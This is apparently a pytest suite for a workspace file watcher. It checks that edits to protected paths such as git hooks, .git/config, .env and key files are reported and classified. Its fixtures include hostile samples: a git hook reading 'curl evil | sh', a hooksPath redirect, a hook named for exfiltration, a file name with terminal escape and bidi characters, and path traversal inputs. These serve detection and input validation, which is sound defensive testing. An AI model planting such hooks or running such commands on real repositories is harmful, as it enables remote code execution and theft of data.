"""The watcher on real directories: what is reported, how it is classified."""

from __future__ import annotations

import json
import os
import shutil

import pytest
from support.watch import replace_atomically, watching, workspace, write

from console.contract.outcome import ChangeKind
from console.contract.strictjson import loads
from console.watch import FileEvent, net_changes


async def test_git_internals_are_seen_and_classified(tmp_path):
    ws = workspace(tmp_path)
    async with watching(ws) as (_watcher, rec):
        write(ws / ".git" / "hooks" / "pre-commit", "#!/bin/sh\ncurl evil | sh\n")
        with open(ws / ".git" / "config", "a") as f:
            f.write("[core]\n\thooksPath = /tmp/x\n")
        write(ws / "src" / "app.py", "print('changed')\n")
        hook = await rec.wait_path(".git/hooks/pre-commit", "added")
        config = await rec.wait_path(".git/config", "modified")
        app = await rec.wait_path("src/app.py", "modified")
    assert hook.protected == ".git/hooks/**"
    assert config.protected == ".git/config"
    assert app.protected is None
    assert hook.size == len("#!/bin/sh\ncurl evil | sh\n")
    assert not hook.is_dir and not hook.symlink_escape
    assert hook.workspace_root == str(ws)


async def test_heavy_directories_are_skipped(tmp_path):
    ws = workspace(tmp_path)
    async with watching(ws) as (watcher, rec):
        write(ws / "node_modules" / "left-pad" / "index.js", "evil")
        write(ws / "node_modules" / "new-pkg" / "id_rsa", "key")
        write(ws / ".git" / "objects" / "ab" / "cdef", "blob")
        write(ws / ".venv" / "bin" / "python", "x")
        write(ws / "src" / "__pycache__" / "app.cpython-311.pyc", "x")
        write(ws / "src" / "marker.txt", "done")
        await rec.wait_path("src/marker.txt", "added")
        await watcher.flush()
    paths = {e.path for e in rec.events}
    assert not [p for p in paths if p.startswith(("node_modules", ".git/objects", ".venv"))], paths
    assert not [p for p in paths if "__pycache__" in p], paths


async def test_a_pattern_naming_a_skipped_directory_keeps_it_watched(tmp_path):
    ws = workspace(tmp_path)
    (ws / "node_modules" / ".bin").mkdir()
    async with watching(ws, patterns=("node_modules/.bin/**", ".env")) as (watcher, rec):
        write(ws / "node_modules" / ".bin" / "tsc", "#!/bin/sh\nevil\n")
        write(ws / "node_modules" / "left-pad" / "index.js", "noise")
        ev = await rec.wait_path("node_modules/.bin/tsc", "added")
        await watcher.flush()
    assert ev.protected == "node_modules/.bin/**"
    assert not rec.find(lambda e: e.path.startswith("node_modules/left-pad"))


async def test_rename_over_is_a_modification(tmp_path):
    ws = workspace(tmp_path)
    async with watching(ws) as (watcher, rec):
        replace_atomically(ws / ".env", "TOKEN=new\n")
        replace_atomically(ws / "src" / "app.py", "print('new')\n")
        env = await rec.wait_path(".env", "modified")
        app = await rec.wait_path("src/app.py", "modified")
        await watcher.flush()
    assert env.protected == ".env"
    assert app.protected is None
    assert not rec.find(lambda e: e.path in (".env", "src/app.py") and e.kind is ChangeKind.ADDED)
    # The temporary file of an unprotected rename-over is not worth a row.
    assert not rec.find(lambda e: e.path == "src/app.py.tmp~")


async def test_final_state_decides_the_kind(tmp_path):
    ws = workspace(tmp_path)
    async with watching(ws, debounce_ms=400, step_ms=100) as (watcher, rec):
        # Both come and go within one batch: only the protected one is worth reporting.
        write(ws / "src" / "scratch.txt")
        os.unlink(ws / "src" / "scratch.txt")
        write(ws / ".git" / "hooks" / "post-checkout", "#!/bin/sh\n")
        os.unlink(ws / ".git" / "hooks" / "post-checkout")
        added = await rec.wait_path(".git/hooks/post-checkout", "added")
        deleted = await rec.wait_path(".git/hooks/post-checkout", "deleted")
        await watcher.flush()
    assert added.seq < deleted.seq
    assert not rec.find(lambda e: e.path == "src/scratch.txt")
    assert deleted.size is None and deleted.mode is None


async def test_directory_moved_in_reports_everything_inside(tmp_path):
    ws = workspace(tmp_path)
    outside = tmp_path / "outside" / "hooks"
    write(outside / "pre-push", "#!/bin/sh\nexfiltrate\n")
    write(outside / "nested" / "deep.txt", "deep")
    async with watching(ws) as (_watcher, rec):
        shutil.rmtree(ws / ".git" / "hooks")
        os.rename(outside, ws / ".git" / "hooks")
        push = await rec.wait_path(".git/hooks/pre-push", "added")
        await rec.wait_path(".git/hooks/nested/deep.txt", "added")
        await rec.wait_path(".git/hooks/pre-commit.sample", "deleted")
        # The replaced directory is watched again.
        write(ws / ".git" / "hooks" / "post-merge", "#!/bin/sh\n")
        await rec.wait_path(".git/hooks/post-merge", "added")
    assert push.protected == ".git/hooks/**"


async def test_directory_moved_out_reports_its_files_deleted(tmp_path):
    ws = workspace(tmp_path)
    write(ws / "pkg" / "keys" / "server.pem", "-----BEGIN-----\n")
    write(ws / "pkg" / "mod.py", "x")
    async with watching(ws) as (_watcher, rec):
        os.rename(ws / "pkg", tmp_path / "moved-away")
        pem = await rec.wait_path("pkg/keys/server.pem", "deleted")
        await rec.wait_path("pkg/mod.py", "deleted")
        await rec.wait_path("pkg", "deleted")
    assert pem.protected == "**/*.pem"


async def test_sequence_numbers_are_monotonic_across_roots(tmp_path):
    a, b = workspace(tmp_path, "a"), workspace(tmp_path, "b")
    async with watching(a, b) as (_watcher, rec):
        for i in range(20):
            write((a if i % 2 else b) / "src" / f"f{i}.txt", str(i))
        for i in range(20):
            await rec.wait_path(f"src/f{i}.txt", "added")
    seqs = [e.seq for e in rec.events]
    assert seqs == sorted(seqs) and len(set(seqs)) == len(seqs)
    assert {e.workspace_root for e in rec.events} == {str(a), str(b)}


async def test_add_root_is_idempotent_and_remove_stops_reporting(tmp_path):
    ws = workspace(tmp_path)
    async with watching(ws) as (watcher, rec):
        await watcher.add_root(str(ws) + "/")
        assert watcher.roots() == (str(ws),)
        await watcher.remove_root(str(ws))
        assert watcher.status().roots == ()
        write(ws / ".env", "TOKEN=after\n")
        await watcher.add_root(str(ws))
        write(ws / "src" / "after.txt", "x")
        await rec.wait_path("src/after.txt", "added")
    # The write made while the root was not watched is not an event of the new watch.
    assert not rec.find(lambda e: e.path == ".env")


async def test_policy_change_reclassifies(tmp_path):
    ws = workspace(tmp_path)
    write(ws / "deploy" / "prod.yaml", "replicas: 1\n")
    patterns = [".env"]
    from console.policy.patterns import ProtectedPaths
    from console.watch import Attributions, WorkspaceWatcher

    events: list[FileEvent] = []
    watcher = WorkspaceWatcher(
        protected_for=lambda _r: ProtectedPaths(patterns),
        attributions=Attributions(),
        on_event=events.append,
        on_status=lambda _s: None,
        rescan_interval_s=0.3,
        settle_s=0.2,
    )
    try:
        await watcher.add_root(str(ws))
        patterns.append("deploy/**")
        await watcher.policy_changed()
        write(ws / "deploy" / "prod.yaml", "replicas: 100\n")
        await watcher.flush()
        await watcher.flush()
        got = [e for e in events if e.path == "deploy/prod.yaml"]
        assert got and got[0].protected == "deploy/**"
        diff = watcher.baseline_diff(str(ws), "deploy/prod.yaml")
        assert diff is not None and "-replicas: 1\n" in diff and "+replicas: 100\n" in diff
    finally:
        await watcher.close()


async def test_to_dict_is_strict_json_even_for_hostile_names(tmp_path):
    ws = workspace(tmp_path)
    async with watching(ws) as (_watcher, rec):
        name = "evil\x1b[31m\u202e.env"
        write(ws / "src" / name, "x")
        ev = await rec.wait_path(f"src/{name}", "added")
    data = loads(json.dumps(ev.to_dict()))
    assert data["path"] == f"src/{name}"
    assert data["path_flagged"] is True
    assert "\x1b" not in data["display_path"] and "\u202e" not in data["display_path"]
    assert data["kind"] == "added"


def test_invalid_roots_and_paths_are_refused(tmp_path):
    import asyncio

    from console.policy.patterns import ProtectedPaths
    from console.watch import Attributions, WorkspaceWatcher

    (tmp_path / "file").write_text("x")

    async def main() -> None:
        w = WorkspaceWatcher(
            protected_for=lambda _r: ProtectedPaths([]),
            attributions=Attributions(),
            on_event=lambda _e: None,
            on_status=lambda _s: None,
        )
        for bad in ("relative/dir", "", "/", str(tmp_path / "file")):
            with pytest.raises(ValueError):  # noqa: PT011
                await w.add_root(bad)
        await w.add_root(str(tmp_path))
        for bad in ("../etc/passwd", "/etc/passwd", "a/../../b", ""):
            with pytest.raises(ValueError):  # noqa: PT011
                w.baseline_diff(str(tmp_path), bad)
        await w.close()

    asyncio.run(main())

    with pytest.raises(ValueError, match="rescan_interval_s"):
        WorkspaceWatcher(
            protected_for=lambda _r: None,  # type: ignore[arg-type,return-value]
            attributions=Attributions(),
            on_event=lambda _e: None,
            on_status=lambda _s: None,
            rescan_interval_s=0,
        )


def _ev(path: str, kind: ChangeKind, protected: str | None = None, seq: int = 0) -> FileEvent:
    return FileEvent(seq, 0.0, 0.0, "/w", path, kind, protected, False, False, None, None, (), "inotify")


def test_net_changes_collapses_runs_per_path():
    A, M, D = ChangeKind.ADDED, ChangeKind.MODIFIED, ChangeKind.DELETED
    events = [
        _ev("new.txt", A),
        _ev("new.txt", M),
        _ev("old.txt", M),
        _ev("old.txt", D),
        _ev("swap.txt", D),
        _ev("swap.txt", A),
        _ev("tmp.txt", A),
        _ev("tmp.txt", D),
        _ev(".git/hooks/x", A, ".git/hooks/**"),
        _ev(".git/hooks/x", D, ".git/hooks/**"),
    ]
    got = [(c.path, c.kind, c.protected) for c in net_changes(events)]
    assert got == [
        ("new.txt", A, False),
        ("old.txt", D, False),
        ("swap.txt", M, False),
        (".git/hooks/x", A, True),
        (".git/hooks/x", D, True),
    ]


async def test_flush_returns_after_every_earlier_change_was_delivered(tmp_path):
    ws = workspace(tmp_path)
    async with watching(ws) as (watcher, rec):
        for i in range(200):
            write(ws / "src" / f"n{i:03}.txt", str(i))
        write(ws / ".git" / "hooks" / "pre-rebase", "#!/bin/sh\n")
        await watcher.flush()
        got = {e.path for e in rec.events}
    assert {f"src/n{i:03}.txt" for i in range(200)} <= got
    assert ".git/hooks/pre-rebase" in got
